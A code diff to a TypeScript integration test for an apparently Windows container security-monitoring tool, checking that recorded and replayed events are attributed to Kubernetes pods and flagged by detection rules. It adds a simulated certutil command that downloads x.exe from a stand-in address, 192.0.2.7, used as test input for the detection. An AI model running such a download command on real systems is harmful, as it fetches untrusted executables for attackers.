@@ -1,9 +1,12 @@
 import assert from 'node:assert/strict';
+import { readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
-import { readStored, type StoredRecord } from '../interop/otlp_json.ts';
+import { readStored, recordsOf, type StoredRecord } from '../interop/otlp_json.ts';
 import { startCollector } from '../interop/peers/collector.ts';
 import { ensureCollector } from '../interop/peers/collector_build.ts';
+import { until } from '../interop/peers/process.ts';
+import { sigel as runSigel } from '../interop/sigel.ts';
 import { kubernetesLabels } from '../support/fake_containerd.ts';
 import { ContainerStory } from './container_story.ts';
 import { ContainerdRun } from './containerd_run.ts';
@@ -12,12 +15,15 @@ import { containerdParts, WindowsContainerd } from './peers/containerd.ts';
 import { CONTAINERD_1 } from './peers/containerd_build.ts';
 import { NODE_24 } from './peers/node.ts';
 import { ensureStandin, Standin } from './peers/standin.ts';
+import { windowsPath } from './peers/wine.ts';
 
 // The whole way of a node, as config/node.yaml has it: ETW (played by the stand-in), the real containerd for Windows over
 // its pipe, attribution, and a real Collector. What ETW tells has the pids of the processes that containerd started.
 
 /** The sessions of the preset. */
 const [LIFECYCLE, EVENTS] = ['sigel-lifecycle', 'sigel-events'];
+/** What `sigel record` adds to their names. */
+const RECORDED = '-record';
 
 const windows = await windowsBench(NODE_24);
 const parts = await containerdParts(CONTAINERD_1);
@@ -66,6 +72,14 @@ test('records of a node are attributed to the pods of a real containerd', { skip
   t.after(() => sigel.process.kill());
   await sigel.said('connected to containerd');
   await sigel.said('reading a live session', 2);
+  // A recording beside it, of other sessions with the same providers.
+  const recording = join(containerd.folder, 'recording');
+  const record = bench.startSigel(
+    ['record', windowsPath(join(recording, 'node.etl')), '--max-size', '1GiB', '--containers', 'auto'],
+    { env: standin.env },
+  );
+  t.after(() => record.kill());
+  await until('both sessions are recorded', () => isRunning(standin, RECORDED), 90_000);
 
   await make('agent', 'agent-1', { 'microsoft.com/hostprocess-container': 'true' });
   const [agent, exporter] = await story.startsOnHost('k8s.io', 'agent');
@@ -75,6 +89,8 @@ test('records of a node are attributed to the pods of a real containerd', { skip
   const debug = await story.executes(agent, 'debug');
   const child = story.forks(shell, 'C:\\Windows\\System32\\whoami.exe');
   const host = story.forks(story.services, 'C:\\Windows\\System32\\svchost.exe');
+  const fetches = '-urlcache -f http://192.0.2.7/x.exe C:\\Temp\\x.exe';
+  const attack = story.forks(shell, 'C:\\Windows\\System32\\certutil.exe', fetches);
   for (const process of [w3wp, exporter, toolMain, shell, debug, child, host])
     process.writesFile('C:\\Temp\\x.txt').connects('192.0.2.7', 443);
   await plays(sigel, standin, story);
@@ -87,11 +103,13 @@ test('records of a node are attributed to the pods of a real containerd', { skip
   for (const process of [w3wp, againMain]) process.writesFile('C:\\Temp\\y.txt');
   await plays(sigel, standin, story);
   await sigel.stop();
+  const recorded = await record.stop(90_000);
+  assert.equal(recorded.code, 0, recorded.stderr);
   await collector.stop();
 
   const records: StoredRecord[] = [];
   for await (const record of readStored(collector.file)) records.push(record);
-  const owners = new Map<number, string>([[child.pid, 'shop/web-1/web']]);
+  const owners = new Map<number, string>([child, attack].map(({ pid }) => [pid, 'shop/web-1/web']));
   for (const [{ pids }, owner] of [
     [web, 'shop/web-1/web'],
     [agent, 'shop/agent-1/agent'],
@@ -108,6 +126,16 @@ test('records of a node are attributed to the pods of a real containerd', { skip
     const pid = Number(record.attributes['process.pid']);
     assert.equal(ownerOf(record), owners.get(pid) ?? 'node', `${record.eventName} of ${pid}`);
   }
+  const detections = records.flatMap(detectionOf).sort();
+  assert.deepEqual(
+    detections,
+    [
+      `File downloaded with a program of Windows: ${attack.pid} of shop/web-1/web`,
+      `Shell in a container connects to a public address: ${shell.pid} of shop/web-1/web`,
+      `Shell in a container connects to a public address: ${debug.pid} of shop/agent-1/agent`,
+    ].sort(),
+  );
+  assert.deepEqual((await replayed(recording)).flatMap(detectionOf).sort(), detections);
   const methodsOf = ({ pid }: { readonly pid: number }) => {
     const own = fromEtw.filter(({ attributes }) => attributes['process.pid'] === pid);
     assert.ok(own.every(({ resource }) => resource['k8s.node.name'] === 'win-1'));
@@ -119,6 +147,28 @@ test('records of a node are attributed to the pods of a real containerd', { skip
   );
 });
 
+/** The rule of a detection, and whom it accuses. */
+function detectionOf(record: StoredRecord): string[] {
+  const { 'security_rule.name': rule, 'process.pid': pid } = record.attributes;
+  return rule === undefined ? [] : [`${String(rule)}: ${String(pid)} of ${ownerOf(record)}`];
+}
+
+/** What `sigel replay` on Linux makes of a recording with its journal, judged by the rules that Sigel brings. */
+async function replayed(folder: string): Promise<StoredRecord[]> {
+  const names = readdirSync(folder);
+  const traces = names.filter((name) => name.endsWith('.etl')).map((name) => join(folder, name));
+  assert.equal(traces.length, 2);
+  const journal = join(folder, 'node.containers.ndjson');
+  const { code, stdout, stderr } = await runSigel([
+    'replay',
+    ...traces,
+    ...['--containers', journal, '--rules', 'builtin', '--format', 'json'],
+  ]);
+  assert.equal(code, 0, stderr);
+  const lines = stdout.split('\n').filter((line) => line !== '');
+  return lines.flatMap((line) => [...recordsOf(JSON.parse(line))]);
+}
+
 /** The pod and container that a record is of, as its resource says. */
 function ownerOf({ resource }: StoredRecord): string {
   const names = ['k8s.namespace.name', 'k8s.pod.name'].map((name) => resource[name]);
@@ -126,11 +176,18 @@ function ownerOf({ resource }: StoredRecord): string {
   return [...names, resource['container.id']].filter((name) => typeof name === 'string').join('/');
 }
 
+function isRunning(standin: Standin, suffix: string): boolean {
+  const running = standin.sessions().filter(({ name, running }) => running && name.endsWith(suffix));
+  return running.length === 2;
+}
+
 /** Goes on with what happened since. */
 function play(standin: Standin, story: ContainerStory): void {
   const { events, kernel } = story.traces();
-  standin.play(kernel, LIFECYCLE);
-  standin.play(events, EVENTS);
+  for (const suffix of ['', RECORDED]) {
+    standin.play(kernel, `${LIFECYCLE}${suffix}`);
+    standin.play(events, `${EVENTS}${suffix}`);
+  }
 }
 
 /** The same, and waits until Sigel has it. */
